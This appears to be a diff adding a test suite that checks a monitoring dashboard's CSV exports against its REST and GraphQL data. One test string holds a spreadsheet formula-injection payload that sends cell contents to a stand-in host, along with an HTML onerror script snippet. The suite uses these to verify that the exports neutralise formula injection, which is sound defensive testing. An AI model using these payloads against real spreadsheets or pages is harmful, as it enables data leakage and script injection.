@@ -1,0 +1,328 @@
+import type { Platform } from '../../src/entities/vocabulary.js';
+import { importAnswers } from '../../src/monitoring/import/import-answers.js';
+import { fileOf } from '../monitoring/monitored-project.js';
+import { liftLimits, useApi } from '../support/api.js';
+import { readTable } from '../support/csv.js';
+import { dataOf, first } from '../support/expectations.js';
+import { askGraphql } from '../support/graphql.js';
+import {
+  addCandidate,
+  addCitations,
+  addMentions,
+  addResponses,
+  candidateOf,
+  selectAnalysis,
+} from '../support/history.js';
+import { type HolderSession, liftHolderLimits, openHolder } from '../support/holder-session.js';
+import { createCompetitor, createProject, createPrompt } from '../support/resources.js';
+
+/** What the files hold: the numbers that REST and GraphQL have for the same question. */
+
+const api = useApi();
+const PLATFORMS: Platform[] = ['chatgpt', 'claude', 'gemini', 'perplexity'];
+const DAYS = ['2026-03-17', '2026-04-30', '2026-05-16', '2026-06-07', '2026-06-08', '2026-06-15'];
+const WINDOWS = ['7d', '30d', '90d'];
+
+type Row = Record<string, unknown>;
+
+let holder: HolderSession;
+let projectId: string;
+
+beforeAll(async () => {
+  holder = await openHolder(api);
+  await Promise.all([liftLimits(holder.caller), liftHolderLimits(holder)]);
+});
+
+async function download(file: string, parameters: object): Promise<Record<string, string>[]> {
+  const search = new URLSearchParams({ project: projectId, ...parameters });
+  const response = await fetch(`${api.url}/dashboard/export/${file}.csv?${search}`, { headers: holder.headers });
+  const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer());
+  if (response.status !== 200) throw new Error(text);
+  return readTable(text);
+}
+
+async function ask<Found>(query: string): Promise<Found> {
+  const { body } = await askGraphql(holder.caller, query);
+  expect(body.errors).toBeUndefined();
+  // Shaped by the query that each test sends.
+  return body.data as Found;
+}
+
+/** A value as a file writes it. */
+const written = (value: unknown) => (value === null ? '' : String(value));
+const enumOf = (platform: string) => platform.toUpperCase();
+
+describe('the daily files', () => {
+  beforeAll(async () => {
+    ({ id: projectId } = await createProject(holder.caller, { brand_name: 'Northwind "&" Söhne, Tee' }));
+    const competitor = await createCompetitor(holder.caller, projectId);
+    const subjects = [
+      projectId,
+      await candidateOf(holder.caller, competitor.id),
+      await addCandidate(holder.caller, projectId),
+    ];
+    const history = await selectAnalysis(holder.caller, projectId, subjects.slice(1, 2));
+    const buckets = DAYS.flatMap((date, day) =>
+      PLATFORMS.map((platform, at) => ({ date, platform, n: 10 * day + at + 1 })),
+    );
+    await addResponses(
+      history,
+      buckets.map(({ n, ...bucket }) => ({ ...bucket, responses: 3 * n, naming: 2 * n, positive: n, mixed: n })),
+    );
+    await addMentions(
+      history,
+      buckets.flatMap(({ n, ...bucket }) =>
+        subjects.map((subject, at) => ({ ...bucket, subject, mentions: n + at, responses: n })),
+      ),
+    );
+    await addCitations(
+      history,
+      buckets.flatMap(({ n, ...bucket }) => [
+        { ...bucket, domain: 'a.example', citations: 5 * n },
+        { ...bucket, domain: 'b.example', citations: n },
+      ]),
+    );
+  });
+
+  const FIELDS = {
+    visibility: 'visibilityScore brandMentionCount responseCount',
+    mentions: 'name isBrand competitorCandidateId competitorId mentionCount responseCount',
+    citations: 'domain citationCount responseCount',
+    sentiment: 'positive neutral negative mixed total',
+  };
+  const cases = Object.entries(FIELDS).flatMap(([file, fields]) =>
+    WINDOWS.flatMap((window) =>
+      [[], ...PLATFORMS.map((one) => [one]), ['claude', 'chatgpt']].map((platforms) => ({
+        file,
+        fields,
+        window,
+        platforms,
+      })),
+    ),
+  );
+
+  test.each(cases)('$file of $window and $platforms is the flat table of GraphQL', async (asked) => {
+    const { file, fields, window, platforms } = asked;
+    const chosen = platforms.length > 0 ? `, platforms: [${platforms.map(enumOf).join(', ')}]` : '';
+    const args = `projectIds: ["${projectId}"], window: D${window.slice(0, -1)}, limit: 1000${chosen}`;
+    const data = await ask<Record<string, Row[]>>(
+      `{ rows: ${file}Daily(${args}) { projectId projectName platform date ${fields} } }`,
+    );
+    const rows = data['rows'] ?? [];
+    expect(rows.length).toBeGreaterThan(0);
+    const found = await download(file, { window, ...(platforms.length > 0 && { platforms: platforms.join(',') }) });
+    expect(found.map((row) => Object.values(row))).toEqual(
+      rows
+        .map(({ platform, ...row }) => Object.values({ ...row, platform: String(platform).toLowerCase() }).map(written))
+        .map(([id, name, ...rest]) => [id, name, rest.at(-1), ...rest.slice(0, -1)]),
+    );
+  });
+
+  test('names its columns as the wire does', async () => {
+    expect(Object.keys(first(await download('mentions', {})))).toEqual([
+      'project_id',
+      'project_name',
+      'platform',
+      'date',
+      'name',
+      'is_brand',
+      'competitor_candidate_id',
+      'competitor_id',
+      'mention_count',
+      'response_count',
+    ]);
+  });
+
+  test.each(WINDOWS)('add up to the metrics of REST for %s', async (window) => {
+    // Each body is as the specification shapes it.
+    const get = async <Wire>(path: string) =>
+      ((await holder.caller.get(`/projects/${projectId}/${path}?window=${window}`)).body as { data: Wire }).data;
+    const sum = (rows: Record<string, string>[], name: string) => rows.reduce((all, row) => all + Number(row[name]), 0);
+    const visibility = await get<{ by_platform: Record<string, Record<string, number>> }>('visibility');
+    const file = await download('visibility', { window });
+    for (const platform of PLATFORMS) {
+      const own = file.filter((row) => row['platform'] === platform);
+      expect(visibility.by_platform[platform]).toMatchObject({
+        response_count: sum(own, 'response_count'),
+        brand_mention_count: sum(own, 'brand_mention_count'),
+      });
+    }
+    const { sentiment } = await get<{ sentiment: Record<string, number> }>('sentiment');
+    const tones = await download('sentiment', { window });
+    for (const [tone, count] of Object.entries(sentiment)) expect(sum(tones, tone)).toBe(count);
+    const citations = await get<{ domain: string; citation_count: number }[]>('citations');
+    const cited = await download('citations', { window });
+    for (const { domain, citation_count } of citations) {
+      expect(
+        sum(
+          cited.filter((row) => row['domain'] === domain),
+          'citation_count',
+        ),
+      ).toBe(citation_count);
+    }
+  });
+
+  test('mentions are REST’s buckets, each once', async () => {
+    const answer = await holder.caller.get(`/projects/${projectId}/mentions?window=90d&limit=100`);
+    const { data } = answer.body as { data: { mentions: Row[] } };
+    const keyOf = (row: Row) =>
+      [
+        row['date'] ?? row['bucket_date'],
+        row['platform'] ?? row['provider'],
+        ...['competitor_candidate_id', 'mention_count', 'response_count'].map((name) => written(row[name] ?? null)),
+      ].join();
+    const file = await download('mentions', { window: '90d' });
+    expect(file.map(keyOf).toSorted()).toEqual(data.mentions.map(keyOf).toSorted());
+  });
+
+  test('of a project that was never analysed have a header alone', async () => {
+    const { id } = await createProject(holder.caller);
+    expect(await download('citations', { project: id })).toEqual([]);
+  });
+
+  test('of an archived project keep its history, and its lists are gone', async () => {
+    const { id } = await createProject(holder.caller);
+    const history = await selectAnalysis(holder.caller, id);
+    await addResponses(history, [{ date: '2026-06-10', platform: 'claude', responses: 3, naming: 1 }]);
+    await holder.caller.delete(`/projects/${id}`);
+    expect(await download('visibility', { project: id })).toMatchObject([{ response_count: '3' }]);
+    await expect(download('prompts', { project: id })).rejects.toThrow('Project not found');
+  });
+});
+
+describe('the lists', () => {
+  beforeAll(async () => {
+    ({ id: projectId } = await createProject(holder.caller));
+  });
+
+  test('prompts are REST’s, with their platforms and tags in one cell each', async () => {
+    await createPrompt(holder.caller, projectId, { tags: ['=1+1', 'tea'], category: 'a "quoted", one' });
+    await createPrompt(holder.caller, projectId, { prompt_text: '+41 of what?', platforms: ['claude', 'chatgpt'] });
+    const rest = dataOf<Row[]>(await holder.caller.get(`/projects/${projectId}/prompts`));
+    const found = await download('prompts', { window: '7d' });
+    expect(found).toEqual(
+      rest.map((row) => ({
+        ...Object.fromEntries(Object.entries(row).map(([name, value]) => [name, written(value)])),
+        platforms: (row['platforms'] as string[]).join('; '),
+        tags: (row['tags'] as string[]).length > 0 ? "'=1+1; tea" : '',
+        prompt_text: String(row['prompt_text']).replace(/^\+/, "'+"),
+      })),
+    );
+    expect(found.filter((row) => row['prompt_text'] === "'+41 of what?")).toHaveLength(1);
+  });
+
+  test('competitors are REST’s, with empty cells where nothing is known', async () => {
+    const known = await createCompetitor(holder.caller, projectId, { name: 'Known' });
+    const history = await selectAnalysis(holder.caller, projectId, [await candidateOf(holder.caller, known.id)]);
+    const day = { date: '2026-06-10', platform: 'claude' as const, responses: 3 };
+    await addResponses(history, [{ ...day, naming: 1 }]);
+    await addMentions(history, [{ ...day, subject: await candidateOf(holder.caller, known.id), mentions: 4 }]);
+    await createCompetitor(holder.caller, projectId, { name: 'Unknown' });
+    const rest = dataOf<Row[]>(await holder.caller.get(`/projects/${projectId}/competitors`));
+    expect(rest.map((row) => row['total_mentions_count'])).toEqual(expect.arrayContaining([4, undefined]));
+    expect(await download('competitors', {})).toEqual(
+      rest.map((row) => ({
+        total_mentions_count: '',
+        visibility_score: '',
+        market_share: '',
+        first_seen_at: '',
+        last_seen_at: '',
+        ...Object.fromEntries(Object.entries(row).map(([name, value]) => [name, written(value)])),
+      })),
+    );
+  });
+});
+
+describe('the answers', () => {
+  const HOSTILE = '=HYPERLINK("http://evil.example?"&A1,"Northwind")\r\n@SUM(1)\t,"",\'\u2028<img onerror=alert(1)> 🍵';
+  const LONG = `Northwind is excellent. ${'"=1,\r\n'.repeat(150_000)}`;
+
+  beforeAll(async () => {
+    ({ id: projectId } = await createProject(holder.caller));
+    await createPrompt(holder.caller, projectId, { prompt_text: '-2+3, which tea?' });
+    const line = (external_id: string, fields: object) =>
+      JSON.stringify({ external_id, platform: 'chatgpt', question: 'Other?', ...fields });
+    const [days] = [['2026-06-13', '2026-06-01', '2026-05-01', '2026-03-20']];
+    const usual = PLATFORMS.flatMap((platform) =>
+      days.flatMap((day) =>
+        ['Northwind is excellent, and cheap.', 'Neither.'].map((answer, at) =>
+          line(`${platform}${day}${at}`, { platform, answer, answered_at: `${day}T09:00:00.25Z` }),
+        ),
+      ),
+    );
+    const citations = ['https://teapress.com/1', 'https://brewers.org/2', 'https://teapress.com/3'].map((url) => ({
+      url,
+    }));
+    const model = '+claude';
+    await importAnswers(
+      api.em,
+      { projectId },
+      fileOf([
+        ...usual,
+        line('hostile', {
+          question: '-2+3, which tea?',
+          model,
+          answer: HOSTILE,
+          citations,
+          answered_at: '2026-06-12T10:00:00Z',
+        }),
+        ...Array.from({ length: 2 }, (_, at) => line(`${at}`, { answer: LONG, answered_at: '2026-06-11T10:00:00Z' })),
+      ]),
+    );
+  });
+
+  interface Answered extends Row {
+    id: string;
+    platform: string;
+    answeredAt: string;
+    brandMentions: object[];
+    citations: { domain: string }[];
+    prompt: { id: string } | null;
+  }
+
+  const asked = WINDOWS.flatMap((window) => [undefined, ...PLATFORMS].map((platform) => ({ window, platform })));
+
+  test.each(asked)('of $window and $platform are those of GraphQL, with what was seen in them', async (of) => {
+    const { window, platform } = of;
+    const found = await download('answers', { window, ...(platform && { platforms: platform }) });
+    const narrowed = platform ? `, platform: ${enumOf(platform)}` : '';
+    const { project } = await ask<{ project: { responses: { nodes: Answered[] } } }>(
+      `{ project(id: "${projectId}") { responses(first: 100, window: D${window.slice(0, -1)}${narrowed}) { nodes {
+        id platform model answeredAt prompt { id } brandMentions { start } citations { domain } sentiment
+        sentimentSource evidence
+      } } } }`,
+    );
+    const { nodes } = project.responses;
+    expect(nodes.length).toBeGreaterThan(0);
+    expect(found.map(({ text, prompt_text, evidence, model, ...row }) => row)).toEqual(
+      nodes.map((node) => ({
+        id: node.id,
+        project_id: projectId,
+        prompt_id: node.prompt?.id ?? '',
+        platform: node.platform.toLowerCase(),
+        answered_at: node.answeredAt,
+        is_brand_named: String(node.brandMentions.length > 0),
+        sentiment: written(node['sentiment']).toLowerCase(),
+        sentiment_source: written(node['sentimentSource']).toLowerCase(),
+        cited_domains: [...new Set(node.citations.map(({ domain }) => domain))].join('; '),
+      })),
+    );
+    const inert = (value: unknown) => written(value).replace(/^(?=[=+\-@\t\r])/, "'");
+    expect(found.map(({ evidence, model }) => [evidence, model])).toEqual(
+      nodes.map(({ evidence, model }) => [inert(evidence), inert(model)]),
+    );
+  });
+
+  test('hostile texts stay as they are behind an apostrophe, each in its cell, however long', async () => {
+    const found = await download('answers', { from: '2026-06-11', to: '2026-06-12' });
+    const hostile = first(found);
+    expect(hostile).toMatchObject({
+      prompt_text: "'-2+3, which tea?",
+      model: "'+claude",
+      is_brand_named: 'true',
+      cited_domains: 'teapress.com; brewers.org',
+      text: `'${HOSTILE}`,
+    });
+    expect(found.slice(1).map(({ text }) => text)).toEqual([LONG, LONG]);
+  });
+});
